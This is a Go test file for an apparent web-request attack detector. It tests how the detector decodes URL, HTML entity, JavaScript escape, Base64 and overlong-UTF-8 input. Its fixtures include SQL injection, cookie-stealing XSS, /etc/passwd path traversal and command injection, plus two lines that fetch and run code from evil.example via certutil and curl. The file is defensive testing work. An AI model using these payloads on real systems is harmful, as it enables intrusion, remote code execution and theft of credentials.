package detect

import (
	"encoding/base64"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestDecode(t *testing.T) {
	tests := []struct {
		name, in string
		want     []string
	}{
		{"plain stays", "hello world", []string{"hello world"}},
		{"url", "%27%20OR%201%3D1", []string{"' OR 1=1"}},
		{"double url", "%2527%2520OR", []string{"' OR"}},
		{"iis %u", "%u003cscript%u003e", []string{"<script>"}},
		{"malformed escape kept", "100% sure %zz", []string{"100% sure %zz"}},
		{"html decimal and hex", "&#60;svg&#x20;onload&#61;x&#x3e;", []string{"<svg onload=x>"}},
		{"named entities", "&lt;b&gt;", []string{"<b>"}},
		{"js unicode", `\u003cscript\u003e`, []string{"<script>"}},
		{"js hex and braces", `\x3c\u{73}`, []string{"<s"}},
		{"base64 token", "q=JyBPUiAnMSc9JzE=", []string{"q=' OR '1'='1"}},
		{"base64 url alphabet", "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk-", []string{"<svg/onload=alert(1)>"}},
		{"base64 of binary stays", "3q2+7wAAAAAAAAAA", []string{"3q2+7wAAAAAAAAAA"}},
		{"ordinary long word stays", "internationalization", []string{"internationalization"}},
		{"base64 under url", "JTI3JTIwT1IlMjAx", []string{"' OR 1"}},
		{"overlong slash", "..\xc0\xaf..\xe0\x80\xafetc", []string{"../../etc"}},
		{"graphql strings", `query { search(term: "a\"b", n: "%27") { id } }`,
			[]string{`query { search(term: "a"b", n: "'") { id } }`, `a"b`, `'`}},
		{"too long is left alone", strings.Repeat("%41", maxDecodeLen), []string{strings.Repeat("%41", maxDecodeLen)}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Decode(tc.in)
			if strings.Join(got, "|") != strings.Join(tc.want, "|") {
				t.Errorf("Decode(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestPathSegments(t *testing.T) {
	got := PathSegments("/archives/%2e%2e%2Fetc%2Fpasswd/x?q=%27")
	want := []string{"archives", "../etc/passwd", "x"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("PathSegments = %q, want %q", got, want)
	}
}

func TestLongText(t *testing.T) {
	tests := []struct {
		in   string
		long bool
	}{
		{"The quick brown fox jumps over the lazy dog near the river bank.", true},
		{"if lexer == nil {\n  lexer = lexers.Fallback\n}", true},
		{"以下の ---> と示された行にカーソルを移動しましょう。", true},
		{"' OR '1'='1' -- ", false},
		{"& certutil -urlcache -split -f http://evil.example/a.exe a.exe", false},
		{"&& curl http://evil.example/x.sh | sh", false},
		{"<img src=x onerror=alert(document.cookie)>", false},
		{"; cat /etc/passwd", false},
		{strings.Repeat("a ", 60), true},
	}
	for _, tc := range tests {
		if got := LongText(tc.in); got != tc.long {
			t.Errorf("LongText(%q) = %v, want %v", tc.in, got, tc.long)
		}
	}
}

func TestLongProse(t *testing.T) {
	sqli := "1' UNION SELECT username, password FROM users--"
	if !LongText(sqli) || LongProse(sqli) {
		t.Errorf("%q: LongText %v LongProse %v, want true false", sqli, LongText(sqli), LongProse(sqli))
	}
}

func TestTransformations(t *testing.T) {
	if v, _, _ := decodedOnly("plain"); v != "" {
		t.Errorf("mamoriDecode of a plain value = %q, want empty", v)
	}
	if v, _, _ := decodedAll("plain"); v != "plain" {
		t.Errorf("mamoriDecodeAll of a plain value = %q", v)
	}
	if v, _, _ := decodedOnly("%3Cb%3E"); v != "<b>" {
		t.Errorf("mamoriDecode = %q", v)
	}
	// A value that decodes to a URL is read as one: its parts, its search
	// phrases left out (issue 11: "&plan=ps" read as a command).
	link := base64.StdEncoding.EncodeToString([]byte("https://js.example/?xl=a327.k473&source=360&plan=ps&q=" + url.QueryEscape("1' OR '1'='1")))
	if v, _, _ := decodedOnly(link); v != strings.Join([]string{"https://js.example", "xl", "a327.k473", "source", "360", "plan", "ps", "q", "1' OR '1'='1"}, Sep) {
		t.Errorf("mamoriDecode of a Base64 URL = %q", v)
	}
	// An escaped URL is unescaped once as a URL ("+" a space in its
	// query), not decoded whole: its parts are judged.
	if v, _, _ := decodedOnly("https://www.example.com/search/?searchQuery=Best+practices%7C+on+15+JUN&x=%253Cb%253E"); v != strings.Join([]string{"https://www.example.com", "search", "searchQuery", "Best practices| on 15 JUN", "x", "<b>"}, Sep) {
		t.Errorf("mamoriDecode of an escaped URL = %q", v)
	}
	long := "The quick brown fox jumps over the lazy dog near the river bank."
	if v, _, _ := gate(long+Sep+"' OR 1=1", LongText); v != "' OR 1=1" {
		t.Errorf("mamoriTextGate kept %q, want the short part only", v)
	}
	sqli := partsOperator{match: func(s string) bool { return s == "bad" }}
	if !sqli.Evaluate(nil, "fine"+Sep+"bad") || sqli.Evaluate(nil, "fine"+Sep+"also fine") {
		t.Error("parts operator does not look at each part")
	}
}

// FuzzDecode: no input panics, hangs or grows without bound.
func FuzzDecode(f *testing.F) {
	for _, s := range []string{"%2527", "&#x3c;", `\u003c`, "JyBPUiAx", "\xc0\xaf", `query { a(b: "\u0027") }`, "%u00", `\u{110000}`, "&#99999999999;"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		parts := Decode(s)
		total := 0
		for _, p := range parts {
			total += len(p)
		}
		if len(parts) == 0 || total > 8*len(s)+1024 {
			t.Fatalf("Decode(%q) gave %d parts of %d bytes", s, len(parts), total)
		}
		_ = LongText(s)
		_ = PathSegments(s)
		_ = utf8.ValidString(parts[0])
	})
}
